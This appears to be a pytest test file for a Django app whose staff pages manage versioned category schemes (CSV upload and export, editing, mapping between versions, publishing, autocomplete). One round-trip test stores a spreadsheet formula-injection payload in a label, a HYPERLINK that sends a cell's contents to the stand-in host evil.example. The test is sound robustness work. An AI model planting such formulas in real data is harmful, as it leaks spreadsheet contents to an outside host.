"""The pages of federation staff under /categories/ and the autocomplete any signed-in person uses."""

from __future__ import annotations

import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from django.utils.formats import date_format
from pytest_django.asserts import assertContains, assertNotContains, assertRedirects

from maillage.core.models import AuditEntry, Organisation, Role, User
from maillage.taxonomy import services
from maillage.taxonomy.models import Category, CategoryMapping, Scheme, SchemeVersion
from tests.conftest import assert_outsider_gets_404, client_for
from tests.factories import SchemeFactory, member
from tests.taxonomy.conftest import V1_CSV, V2_CSV


def messages_of(response) -> list[str]:  # type: ignore[no-untyped-def]
    return [str(message) for message in response.context["messages"]]


def upload(client: Client, url: str, content: bytes, name: str = "categories.csv"):  # type: ignore[no-untyped-def]
    return client.post(url, {"file": SimpleUploadedFile(name, content, content_type="text/csv")}, follow=True)


def staff_urls(version: SchemeVersion) -> list[str]:
    category = version.categories.first()
    assert category is not None
    base = f"/categories/{version.scheme.code}/v{version.number}/"
    return [
        "/categories/",
        base,
        base + "upload/",
        base + "export.csv",
        base + "mapping/",
        base + f"categories/{category.pk}/edit/",
    ]


def post_urls(version: SchemeVersion) -> list[str]:
    category = version.categories.first()
    assert category is not None
    base = f"/categories/{version.scheme.code}/v{version.number}/"
    return [
        f"/categories/{version.scheme.code}/new-draft/",
        base + "upload/",
        base + "mapping/",
        base + "publish/",
        base + "discard/",
        base + f"categories/{category.pk}/edit/",
    ]


# --- who may come in ---


@pytest.mark.parametrize("role", [Role.WORKER, Role.COORDINATOR, Role.RESPONDER, Role.ORGANISER])
def test_other_roles_get_404_and_change_nothing(v2_draft: SchemeVersion, organisation: Organisation, role: str) -> None:
    client = client_for(member(role, organisation))
    entries = AuditEntry.objects.count()
    assert_outsider_gets_404(client, *staff_urls(v2_draft))
    assert_outsider_gets_404(client, *post_urls(v2_draft), method="post")
    v2_draft.refresh_from_db()
    assert (v2_draft.status, v2_draft.scheme.versions.count(), AuditEntry.objects.count()) == ("draft", 2, entries)


def test_outsider_with_every_ordinary_role_gets_404(outsider_client: Client, v2_draft: SchemeVersion) -> None:
    assert_outsider_gets_404(outsider_client, *staff_urls(v2_draft))
    assert_outsider_gets_404(outsider_client, *post_urls(v2_draft), method="post")


def test_anonymous_is_sent_to_sign_in(client: Client, v1: SchemeVersion) -> None:
    for url in [*staff_urls(v1), "/categories/themes/search?q=food"]:
        response = client.get(url)
        assert (response.status_code, response["Location"].split("?")[0]) == (302, "/accounts/login/")


def test_administrator_may_come_in(administrator: User, v1: SchemeVersion) -> None:
    response = client_for(administrator).get("/categories/")
    assert response.status_code == 200
    assert [scheme.code for scheme in response.context["schemes"]] == [v1.scheme.code]


def test_navigation_entry_for_staff_only(staff_client: Client, worker: User) -> None:
    link = '<a href="/categories/">Categories</a>'
    assertContains(staff_client.get("/"), link, html=True)
    worker.language = "en"
    worker.save(update_fields=["language"])
    assertNotContains(client_for(worker).get("/"), link, html=True)


def test_unknown_scheme_or_version_is_404(staff_client: Client, v1: SchemeVersion) -> None:
    assert staff_client.get("/categories/themes/v9/").status_code == 404
    assert staff_client.get("/categories/nope/v1/").status_code == 404
    assert staff_client.post("/categories/nope/new-draft/").status_code == 404
    assert staff_client.get("/categories/nope/search?q=a").status_code == 404
    other = services.create_draft(None, SchemeFactory(code="other"))
    services.import_categories_csv(None, other, V1_CSV)
    foreign = other.categories.first()
    assert staff_client.get(f"/categories/themes/v1/categories/{foreign.pk}/edit/").status_code == 404


# --- list ---


def test_scheme_list_shows_versions_and_status(staff_client: Client, v2_draft: SchemeVersion) -> None:
    SchemeFactory(code="empty", label_en="Empty scheme")
    response = staff_client.get("/categories/")
    assert response.status_code == 200
    assertContains(
        response,
        '<tr><td><a href="/categories/themes/v2/">Version 2</a></td>'
        '<td><span class="badge badge--warn">Draft</span></td><td class="number">4</td><td>—</td>'
        '<td><a href="/categories/themes/v2/export.csv">Download version 2 as CSV</a></td></tr>',
        html=True,
    )
    published_on = date_format(timezone.localtime(v2_draft.previous.published_at), "SHORT_DATE_FORMAT")
    assertContains(
        response,
        '<tr><td><a href="/categories/themes/v1/">Version 1</a> <span class="meta">2025</span></td>'
        '<td><span class="badge badge--ok">Published</span></td><td class="number">5</td>'
        f"<td>{published_on}</td>"
        '<td><a href="/categories/themes/v1/export.csv">Download version 1 as CSV</a></td></tr>',
        html=True,
    )
    assertContains(
        response,
        '<p class="empty">No version yet. Start a draft, then upload its categories as CSV.</p>',
        html=True,
    )


def _count_list_queries(client: Client) -> int:
    with CaptureQueriesContext(connection) as captured:
        assert client.get("/categories/").status_code == 200
    return len(captured)


def test_scheme_list_queries_do_not_grow_with_schemes(
    staff_client: Client, v1: SchemeVersion, django_assert_max_num_queries
) -> None:
    one = _count_list_queries(staff_client)
    for n in range(4):
        scheme = SchemeFactory(code=f"more-{n}")
        draft = services.create_draft(None, scheme)
        services.import_categories_csv(None, draft, V1_CSV)
        services.publish_version(None, draft)
        services.create_draft(None, scheme)
    with django_assert_max_num_queries(one):
        response = staff_client.get("/categories/")
    assert len(response.context["schemes"]) == 5


def test_empty_list(staff_client: Client) -> None:
    assertContains(
        staff_client.get("/categories/"),
        '<p class="empty">No category scheme yet. The demo loads the request themes; '
        "other schemes come with the modules that use them.</p>",
        html=True,
    )


# --- a version's tree ---


def test_version_tree_shows_levels_labels_and_retired(staff_client: Client, v2_draft: SchemeVersion) -> None:
    services.update_category(
        None, v2_draft.categories.get(code="HOUSING.RENT"), is_active=False, description="Plus utilisé"
    )
    rent = v2_draft.categories.get(code="HOUSING.RENT")
    response = staff_client.get("/categories/themes/v2/")
    assert [(node.category.code, [c.code for c in node.children]) for node in response.context["tree"]] == [
        ("FOOD", ["FOOD.AID"]),
        ("HOUSING", ["HOUSING.RENT"]),
    ]
    assertContains(
        response,
        '<tr class="taxonomy-level-2 taxonomy-retired"><td class="taxonomy-child"><code>HOUSING.RENT</code></td>'
        '<td lang="fr" class="taxonomy-label">Loyer impayé<span class="helptext">Plus utilisé</span></td>'
        '<td lang="nl" class="taxonomy-label">Onbetaalde huur</td><td lang="en" class="taxonomy-label">Unpaid rent</td>'
        '<td><span class="badge badge--warn">retired</span></td>'
        f'<td><a href="/categories/themes/v2/categories/{rent.pk}/edit/">Edit HOUSING.RENT</a></td></tr>',
        html=True,
    )
    assertContains(
        response,
        '<p class="warning">2 categories of the previous version do not say where they go yet. '
        '<a href="/categories/themes/v2/mapping/">Record the mapping</a></p>',
        html=True,
    )


def _count_queries(client: Client, url: str) -> int:
    with CaptureQueriesContext(connection) as captured:
        assert client.get(url).status_code == 200
    return len(captured)


def test_version_tree_queries_do_not_grow_with_categories(
    staff_client: Client, scheme: Scheme, django_assert_max_num_queries
) -> None:  # type: ignore[no-untyped-def]
    small = services.create_draft(None, scheme)
    services.import_categories_csv(None, small, "code,parent_code,label_fr,label_nl\nA,,a,a\n")
    services.publish_version(None, small)
    services.create_draft(None, scheme)
    one = _count_queries(staff_client, "/categories/themes/v2/")
    rows = "".join(f"T{n},,t{n},t{n}\n" + "".join(f"T{n}.{m},T{n},s{m},s{m}\n" for m in range(5)) for n in range(8))
    services.import_categories_csv(
        None, SchemeVersion.objects.get(number=2), "code,parent_code,label_fr,label_nl\n" + rows
    )
    with django_assert_max_num_queries(one):
        response = staff_client.get("/categories/themes/v2/")
    assert [len(node.children) for node in response.context["tree"]] == [5] * 8


def test_published_version_has_no_edit_links(staff_client: Client, v1: SchemeVersion) -> None:
    response = staff_client.get("/categories/themes/v1/")
    assertNotContains(response, "/edit/")
    assertNotContains(response, "/publish/")
    assertContains(
        response,
        '<tr class="taxonomy-level-1"><th scope="row"><code>FOOD</code></th>'
        '<td lang="fr" class="taxonomy-label">Aide alimentaire</td>'
        '<td lang="nl" class="taxonomy-label">Voedselhulp</td>'
        '<td lang="en" class="taxonomy-label">Food aid</td><td>active</td></tr>',
        html=True,
    )


def test_empty_draft_says_so(staff_client: Client, scheme: Scheme) -> None:
    services.create_draft(None, scheme)
    assertContains(
        staff_client.get("/categories/themes/v1/"),
        '<p class="empty">This version has no category yet. Upload a CSV file to fill it.</p>',
        html=True,
    )


# --- new draft ---


def test_create_draft_from_the_newest_version(staff_client: Client, staff: User, v1: SchemeVersion) -> None:
    response = staff_client.post("/categories/themes/new-draft/", {"title": " 2027 revision "}, follow=True)
    assertRedirects(response, "/categories/themes/v2/")
    assert messages_of(response) == ["Draft themes v2 created as a copy of the newest version."]
    draft = SchemeVersion.objects.get(scheme=v1.scheme, number=2)
    assert (draft.status, draft.previous, draft.categories.count(), draft.title) == ("draft", v1, 5, "2027 revision")
    assert AuditEntry.objects.filter(actor=staff, code="taxonomy.version.created").count() == 1


def test_create_draft_refused_when_one_exists(staff_client: Client, v2_draft: SchemeVersion) -> None:
    response = staff_client.post("/categories/themes/new-draft/", follow=True)
    assertRedirects(response, "/categories/")
    assert messages_of(response) == ["Version themes v2 is still a draft: publish it before starting another one."]
    assert v2_draft.scheme.versions.count() == 2


def test_create_draft_needs_post(staff_client: Client, v1: SchemeVersion) -> None:
    assert staff_client.get("/categories/themes/new-draft/").status_code == 405


# --- upload ---


def test_upload_bad_rows_listed_with_line_numbers_and_nothing_imported(
    staff_client: Client, v2_draft: SchemeVersion
) -> None:
    before = sorted(v2_draft.categories.values_list("code", "label_fr"))
    bad = (
        V2_CSV
        + "SCHOOL.COSTS,SCHOOL,Frais scolaires,Schoolkosten,,,\n"
        + "FOOD,,Encore,Weer,,,\n"
        + "EMPTY,,,,,,\n"
        + "A,,A,A,,,\nA.B,A,B,B,,,\nA.B.C,A.B,C,C,,,\n"
    )
    response = upload(staff_client, "/categories/themes/v2/upload/", bad.encode())
    assert response.status_code == 200
    assert response.context["row_errors"] == [
        (6, "parent code SCHOOL does not exist in this file."),
        (7, "code FOOD already appears on line 2."),
        (8, "the French and Dutch labels are required."),
        (11, "parent A.B is itself a sub-category; only two levels are allowed."),
    ]
    assertContains(
        response,
        '<ul class="errorlist">'
        "<li>Line 6: parent code SCHOOL does not exist in this file.</li>"
        "<li>Line 7: code FOOD already appears on line 2.</li>"
        "<li>Line 8: the French and Dutch labels are required.</li>"
        "<li>Line 11: parent A.B is itself a sub-category; only two levels are allowed.</li>"
        "</ul>",
        html=True,
    )
    assertContains(response, '<h2 id="errors-title">The file was not imported: 4 problems to fix</h2>', html=True)
    assert sorted(v2_draft.categories.values_list("code", "label_fr")) == before


def test_upload_page_explains_the_format(staff_client: Client, v2_draft: SchemeVersion) -> None:
    response = staff_client.get("/categories/themes/v2/upload/")
    assertContains(response, "<h1>Upload the categories of Themes, version 2</h1>", html=True)
    assertNotContains(response, "errorlist")


def test_upload_missing_columns(staff_client: Client, v2_draft: SchemeVersion) -> None:
    response = upload(staff_client, "/categories/themes/v2/upload/", b"code;label_fr\nA;a\n")
    assert response.context["row_errors"] == [(1, "missing column(s): parent_code, label_nl.")]


def test_upload_wrong_encoding(staff_client: Client, v2_draft: SchemeVersion) -> None:
    response = upload(staff_client, "/categories/themes/v2/upload/", V1_CSV.encode("latin-1"))
    assert response.context["form"].errors == {
        "file": ["Line 4: the file is not UTF-8 text. Save it as 'CSV UTF-8' and upload it again."]
    }
    assert response.context["row_errors"] == []
    assert v2_draft.categories.count() == 4


def test_upload_without_file_or_too_big(staff_client: Client, v2_draft: SchemeVersion, settings) -> None:  # type: ignore[no-untyped-def]
    response = staff_client.post("/categories/themes/v2/upload/")
    assert response.context["form"].errors == {"file": ["This field is required."]}
    settings.MAILLAGE_UPLOAD_LIMITS = {**settings.MAILLAGE_UPLOAD_LIMITS, "taxonomy": 1024 * 1024}
    response = upload(staff_client, "/categories/themes/v2/upload/", V1_CSV.encode() + b"x" * 1024 * 1024)
    assert response.context["form"].errors == {"file": ["The file is too large: the limit is 1 MB."]}
    assert v2_draft.categories.count() == 4


def test_upload_good_file_replaces_the_draft(staff_client: Client, staff: User, v2_draft: SchemeVersion) -> None:
    response = upload(staff_client, "/categories/themes/v2/upload/", V1_CSV.encode("utf-8-sig"))
    assertRedirects(response, "/categories/themes/v2/")
    assert messages_of(response) == ["5 categories imported into themes v2."]
    assert sorted(v2_draft.categories.values_list("code", flat=True)) == [
        "FOOD",
        "FOOD.PARCEL",
        "FOOD.SHOP",
        "HOUSING",
        "HOUSING.RENT",
    ]
    assert AuditEntry.objects.filter(actor=staff, code="taxonomy.version.imported").get().data == {"categories": 5}


def test_upload_into_published_version_refused(staff_client: Client, v1: SchemeVersion) -> None:
    response = upload(staff_client, "/categories/themes/v1/upload/", V2_CSV.encode())
    assertRedirects(response, "/categories/themes/v1/")
    assert messages_of(response) == ["Version themes v1 is published and can no longer change."]
    assert v1.categories.count() == 5


# --- download ---


def _body(response) -> bytes:  # type: ignore[no-untyped-def]
    return b"".join(response.streaming_content)


def test_download_csv(staff_client: Client, v1: SchemeVersion) -> None:
    response = staff_client.get("/categories/themes/v1/export.csv", {"sep": "comma"})
    assert (response["Content-Type"], response["Content-Disposition"]) == (
        "text/csv; charset=utf-8",
        "attachment; filename=\"themes-v1.csv\"; filename*=UTF-8''themes-v1.csv",
    )
    assert "no-store" in [part.strip() for part in response["Cache-Control"].split(",")]
    assert _body(response) == V1_CSV.replace("\n", "\r\n").encode()


def test_download_for_a_belgian_spreadsheet_by_default(staff_client: Client, v1: SchemeVersion) -> None:
    text = _body(staff_client.get("/categories/themes/v1/export.csv")).decode("utf-8")
    assert text.splitlines()[:2] == [
        "\ufeffcode;parent_code;label_fr;label_nl;label_en;description;active",
        "FOOD;;Aide alimentaire;Voedselhulp;Food aid;;yes",
    ]


def test_download_then_upload_gives_the_same_tree(staff_client: Client, v1: SchemeVersion) -> None:
    v1.categories.filter(code="FOOD").update(label_en='=HYPERLINK("http://evil.example/x?"&A1,"Cliquez ici")')
    exported = _body(staff_client.get("/categories/themes/v1/export.csv"))
    staff_client.post("/categories/themes/new-draft/")
    services.import_categories_csv(None, SchemeVersion.objects.get(number=2), V2_CSV)
    upload(staff_client, "/categories/themes/v2/upload/", exported)
    assert _body(staff_client.get("/categories/themes/v2/export.csv")) == exported
    assert SchemeVersion.objects.get(number=2).categories.get(code="FOOD").label_en == (
        '=HYPERLINK("http://evil.example/x?"&A1,"Cliquez ici")'
    )


# --- edit a category ---


def test_edit_category(staff_client: Client, staff: User, v2_draft: SchemeVersion) -> None:
    aid = v2_draft.categories.get(code="FOOD.AID")
    url = f"/categories/themes/v2/categories/{aid.pk}/edit/"
    response = staff_client.get(url)
    assert response.context["form"].initial["label_fr"] == "Colis et épicerie"
    assertContains(response, "<h1>Edit category FOOD.AID</h1>", html=True)
    response = staff_client.post(
        url,
        {
            "label_fr": "Aide alimentaire directe",
            "label_nl": "Directe voedselhulp",
            "label_en": "",
            "description": "Colis, épiceries",
        },
        follow=True,
    )
    assertRedirects(response, "/categories/themes/v2/")
    assert messages_of(response) == ["Category FOOD.AID saved."]
    aid.refresh_from_db()
    assert (aid.label_fr, aid.label_nl, aid.label_en, aid.description, aid.is_active) == (
        "Aide alimentaire directe",
        "Directe voedselhulp",
        "",
        "Colis, épiceries",
        False,
    )
    entry = AuditEntry.objects.filter(code="taxonomy.category.updated").get()
    assert (entry.actor, entry.data["after"]) == (
        staff,
        {
            "label_fr": "Aide alimentaire directe",
            "label_nl": "Directe voedselhulp",
            "label_en": "",
            "description": "Colis, épiceries",
            "is_active": False,
        },
    )


def test_edit_category_requires_french_and_dutch(staff_client: Client, v2_draft: SchemeVersion) -> None:
    aid = v2_draft.categories.get(code="FOOD.AID")
    response = staff_client.post(
        f"/categories/themes/v2/categories/{aid.pk}/edit/", {"label_fr": "", "label_nl": "", "is_active": "on"}
    )
    assert response.status_code == 200
    assert response.context["form"].errors == {
        "label_fr": ["This field is required."],
        "label_nl": ["This field is required."],
    }
    assert Category.objects.get(pk=aid.pk).label_fr == "Colis et épicerie"


def test_edit_category_of_published_version_refused(staff_client: Client, v1: SchemeVersion) -> None:
    food = v1.categories.get(code="FOOD")
    url = f"/categories/themes/v1/categories/{food.pk}/edit/"
    response = staff_client.post(url, {"label_fr": "Changé", "label_nl": "Veranderd", "is_active": "on"}, follow=True)
    assertRedirects(response, "/categories/themes/v1/")
    assert messages_of(response) == ["Version themes v1 is published and can no longer change."]
    assert Category.objects.get(pk=food.pk).label_fr == "Aide alimentaire"


# --- mapping and publication ---


def test_mapping_form_lists_old_categories_without_counterpart(staff_client: Client, v2_draft: SchemeVersion) -> None:
    response = staff_client.get("/categories/themes/v2/mapping/")
    assert [(old.code, target) for old, _field, target in response.context["rows"]] == [
        ("FOOD.PARCEL", None),
        ("FOOD.SHOP", None),
    ]
    parcel = v2_draft.previous.categories.get(code="FOOD.PARCEL")
    assertContains(
        response,
        f'<label for="id_map_{parcel.pk}"><code>FOOD.PARCEL</code> Food parcel</label>',
        html=True,
    )
    aid = v2_draft.categories.get(code="FOOD.AID")
    assertContains(response, f'<option value="{aid.pk}">— FOOD.AID · Parcels and grocery</option>', html=True)


def test_publish_refused_then_map_then_publish(staff_client: Client, staff: User, v2_draft: SchemeVersion) -> None:
    response = staff_client.post("/categories/themes/v2/publish/", follow=True)
    assertRedirects(response, "/categories/themes/v2/")
    assert messages_of(response) == ["Say where these old categories go before publishing: FOOD.PARCEL, FOOD.SHOP."]
    old = v2_draft.previous
    parcel, shop = old.categories.get(code="FOOD.PARCEL"), old.categories.get(code="FOOD.SHOP")
    aid = v2_draft.categories.get(code="FOOD.AID")
    # One at a time: a blank select stays unmapped.
    response = staff_client.post(
        "/categories/themes/v2/mapping/", {f"map_{parcel.pk}": str(aid.pk), f"map_{shop.pk}": ""}, follow=True
    )
    assertRedirects(response, "/categories/themes/v2/mapping/")
    assert messages_of(response) == ["1 mapping recorded."]
    assert [(o.code, t.code if t else None) for o, _f, t in response.context["rows"]] == [
        ("FOOD.PARCEL", "FOOD.AID"),
        ("FOOD.SHOP", None),
    ]
    response = staff_client.post(
        "/categories/themes/v2/mapping/", {f"map_{parcel.pk}": str(aid.pk), f"map_{shop.pk}": str(aid.pk)}, follow=True
    )
    assert messages_of(response) == ["1 mapping recorded."]  # only the select that changed
    assert sorted(
        CategoryMapping.objects.filter(target__version=v2_draft).values_list("source__code", "target__code")
    ) == [
        ("FOOD", "FOOD"),
        ("FOOD.PARCEL", "FOOD.AID"),
        ("FOOD.SHOP", "FOOD.AID"),
        ("HOUSING", "HOUSING"),
        ("HOUSING.RENT", "HOUSING.RENT"),
    ]
    assert AuditEntry.objects.filter(actor=staff, code="taxonomy.mapping.recorded").count() == 2
    response = staff_client.post("/categories/themes/v2/publish/", follow=True)
    assert messages_of(response) == ["Version themes v2 is published; it is now the one in force."]
    v2_draft.refresh_from_db()
    old.refresh_from_db()
    assert (old.status, v2_draft.status) == ("retired", "published")
    # Once published, the mapping reads as a table; changing it is refused.
    response = staff_client.get("/categories/themes/v2/mapping/")
    assertContains(
        response,
        "<tbody><tr><td><code>FOOD.PARCEL</code> Food parcel</td><td><code>FOOD.AID</code> Parcels and grocery</td></tr>"
        "<tr><td><code>FOOD.SHOP</code> Social grocery</td><td><code>FOOD.AID</code> Parcels and grocery</td></tr></tbody>",
        html=True,
    )
    assertNotContains(response, 'name="map_')
    response = staff_client.post(
        "/categories/themes/v2/mapping/",
        {f"map_{parcel.pk}": str(v2_draft.categories.get(code="FOOD").pk)},
        follow=True,
    )
    assertRedirects(response, "/categories/themes/v2/")
    assert messages_of(response) == ["Version themes v2 is published and can no longer change."]
    assert CategoryMapping.objects.get(source=parcel).target == aid


def test_mapping_select_with_unknown_category_refused(staff_client: Client, v2_draft: SchemeVersion) -> None:
    parcel = v2_draft.previous.categories.get(code="FOOD.PARCEL")
    response = staff_client.post("/categories/themes/v2/mapping/", {f"map_{parcel.pk}": str(parcel.pk)})
    assert response.context["form"].errors == {
        f"map_{parcel.pk}": [f"Select a valid choice. {parcel.pk} is not one of the available choices."]
    }


def test_mapping_page_with_nothing_to_map(staff_client: Client, v1: SchemeVersion, scheme: Scheme) -> None:
    services.create_draft(None, scheme)
    assertContains(
        staff_client.get("/categories/themes/v2/mapping/"),
        '<p class="empty">Every category of the previous version keeps its code in this one: nothing to map.</p>',
        html=True,
    )


def test_publish_empty_version_refused(staff_client: Client, scheme: Scheme) -> None:
    services.create_draft(None, scheme)
    response = staff_client.post("/categories/themes/v1/publish/", follow=True)
    assert messages_of(response) == ["An empty version cannot be published."]


# --- autocomplete ---


def test_search_json_for_any_signed_in_person(worker: User, v1: SchemeVersion) -> None:
    worker.language = "nl"
    worker.save(update_fields=["language"])
    response = client_for(worker).get("/categories/themes/search", {"q": "epicerie"})
    shop = v1.categories.get(code="FOOD.SHOP")
    assert json.loads(response.content) == {
        "scheme": "themes",
        "version": 1,
        "results": [
            {
                "id": shop.pk,
                "code": "FOOD.SHOP",
                "level": 2,
                "label": "Sociale kruidenier",
                "label_fr": "Épicerie sociale",
                "label_nl": "Sociale kruidenier",
                "label_en": "Social grocery",
                "parent_code": "FOOD",
                "parent_label": "Voedselhulp",
            }
        ],
    }


def test_search_limit_and_level_one(staff_client: Client, v1: SchemeVersion) -> None:
    data = json.loads(staff_client.get("/categories/themes/search", {"q": "", "limit": "1"}).content)
    assert [(r["code"], r["parent_code"], r["parent_label"]) for r in data["results"]] == [("FOOD", "", "")]
    data = json.loads(staff_client.get("/categories/themes/search", {"q": "food", "limit": "999999"}).content)
    assert [r["code"] for r in data["results"]] == ["FOOD", "FOOD.PARCEL", "FOOD.SHOP"]
    data = json.loads(staff_client.get("/categories/themes/search", {"q": "food", "limit": "-4"}).content)
    assert [r["code"] for r in data["results"]] == ["FOOD"]


def test_search_without_published_version(staff_client: Client, scheme: Scheme) -> None:
    services.create_draft(None, scheme)
    response = staff_client.get("/categories/themes/search", {"q": "food"})
    assert json.loads(response.content) == {"scheme": "themes", "version": None, "results": []}


def test_search_htmx_partial(staff_client: Client, v1: SchemeVersion) -> None:
    shop = v1.categories.get(code="FOOD.SHOP")
    response = staff_client.get("/categories/themes/search", {"q": "grocery"}, headers={"HX-Request": "true"})
    assertContains(
        response,
        f'<ul class="category-results"><li data-id="{shop.pk}" data-code="FOOD.SHOP">'
        '<span class="meta">Food aid ›</span> Social grocery <code>FOOD.SHOP</code></li></ul>',
        html=True,
    )
    response = staff_client.get("/categories/themes/search", {"q": "zzz"}, headers={"HX-Request": "true"})
    assertContains(response, '<p class="empty">No category matches “zzz”.</p>', html=True)


# --- home panel ---


def test_home_panel_lists_drafts_for_staff(staff_client: Client, v2_draft: SchemeVersion) -> None:
    assertContains(
        staff_client.get("/"),
        '<ul><li><a href="/categories/themes/v2/">Themes, version 2</a></li></ul>',
        html=True,
    )


def test_home_panel_empty_state(staff_client: Client, v1: SchemeVersion) -> None:
    assertContains(
        staff_client.get("/"),
        '<p class="empty">No draft in progress. When someone starts a new version of a category scheme, '
        "it appears here until it is published.</p>",
        html=True,
    )


def test_no_home_panel_for_a_worker(worker: User, v2_draft: SchemeVersion) -> None:
    assertNotContains(client_for(worker).get("/"), "/categories/themes/v2/")


# --- admin: read-only ---


def test_admin_shows_categories_read_only(federation_staff: User, v1: SchemeVersion) -> None:
    client = client_for(federation_staff)
    food = v1.categories.get(code="FOOD")
    assert client.get("/admin/taxonomy/category/").status_code == 200
    assert client.get("/admin/taxonomy/categorymapping/").status_code == 200
    assert client.get("/admin/taxonomy/scheme/").status_code == 200
    assert client.get("/admin/taxonomy/schemeversion/").status_code == 200
    assert client.get("/admin/taxonomy/category/add/").status_code == 403
    response = client.post(
        f"/admin/taxonomy/category/{food.pk}/change/", {"label_fr": "Changé", "label_nl": "X", "code": "FOOD"}
    )
    assert response.status_code == 403
    assert client.post(f"/admin/taxonomy/category/{food.pk}/delete/", {"post": "yes"}).status_code == 403
    assert Category.objects.get(pk=food.pk).label_fr == "Aide alimentaire"


def test_create_first_draft_of_an_empty_scheme(staff_client: Client, scheme: Scheme) -> None:
    response = staff_client.post("/categories/themes/new-draft/", follow=True)
    assertRedirects(response, "/categories/themes/v1/")
    assert messages_of(response) == ["Draft themes v1 created; upload its categories as CSV."]


def test_pages_in_french_and_dutch(v2_draft: SchemeVersion, federation: Organisation) -> None:
    services.update_category(None, v2_draft.categories.get(code="HOUSING.RENT"), is_active=False)
    for language, active, retired, title in [
        ("fr", "active", "retirée", 'Thèmes · version 2 <span class="badge badge--warn">Brouillon</span>'),
        ("nl", "actief", "buiten gebruik", 'Thema&#x27;s · versie 2 <span class="badge badge--warn">Ontwerp</span>'),
    ]:
        person = member(Role.FEDERATION_STAFF, federation, language=language)
        response = client_for(person).get("/categories/themes/v2/")
        assertContains(response, f"<td>{active}</td>", count=3, html=True)
        assertContains(response, f'<td><span class="badge badge--warn">{retired}</span></td>', html=True)
        assertContains(response, f"<h1>{title}</h1>", html=True)


def test_discard_a_draft(staff_client: Client, staff: User, v2_draft: SchemeVersion) -> None:
    response = staff_client.post("/categories/themes/v2/discard/", follow=True)
    assertRedirects(response, "/categories/")
    assert messages_of(response) == ["Draft themes v2 discarded."]
    assert list(SchemeVersion.objects.values_list("number", "status")) == [(1, "published")]
    assert v2_draft.previous.categories.count() == 5
    entry = AuditEntry.objects.filter(code="taxonomy.version.discarded").get()
    assert (entry.actor, entry.target_repr, entry.data) == (staff, "themes v2", {"categories": 4})
    # A new draft can start again.
    assert staff_client.post("/categories/themes/new-draft/").status_code == 302


def test_discard_a_published_version_refused(staff_client: Client, v1: SchemeVersion) -> None:
    response = staff_client.post("/categories/themes/v1/discard/", follow=True)
    assertRedirects(response, "/categories/themes/v1/")
    assert messages_of(response) == ["Version themes v1 is published and can no longer change."]
    assert SchemeVersion.objects.filter(pk=v1.pk).exists()
